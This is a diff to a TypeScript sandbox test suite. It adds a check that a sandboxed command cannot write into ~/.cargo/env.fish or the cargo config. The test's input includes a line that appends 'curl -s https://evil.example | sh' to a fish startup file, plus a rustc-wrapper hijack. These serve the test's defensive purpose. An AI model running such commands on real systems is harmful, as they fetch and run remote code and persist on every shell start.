@@ -150,14 +150,17 @@ describe('the sandboxed command, isolated', () => {
     world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'isolation = "landlock-only"\n')
     const config = world.write(join(world.home, '.cargo', 'config.toml'), '[build]\njobs = 4\n')
     world.write(join(world.home, '.cargo', 'registry', 'index'), 'index\n')
+    const fish = world.write(join(world.home, '.cargo', 'env.fish'), '# sourced by fish at every start\n')
     const result = await inSandbox(
       [
+        'echo "curl -s https://evil.example | sh" >> ~/.cargo/env.fish || echo refused fish',
         'printf "[build]\\nrustc-wrapper = \\"/tmp/w\\"\\n" > ~/.cargo/config.toml || echo refused toml',
         'echo "[build]" > ~/.cargo/config || echo refused config',
         'echo cached >> ~/.cargo/registry/index && echo used cache',
       ].join('; '),
     )
-    expect(result.stdout, result.stderr).toBe('refused toml\nrefused config\nused cache\n')
+    expect(result.stdout, result.stderr).toBe('refused fish\nrefused toml\nrefused config\nused cache\n')
+    expect(readFileSync(fish, 'utf8')).toBe('# sourced by fish at every start\n')
     expect(readFileSync(config, 'utf8')).toBe('[build]\njobs = 4\n')
     expect(existsSync(join(world.home, '.cargo', 'config'))).toBe(false)
   })
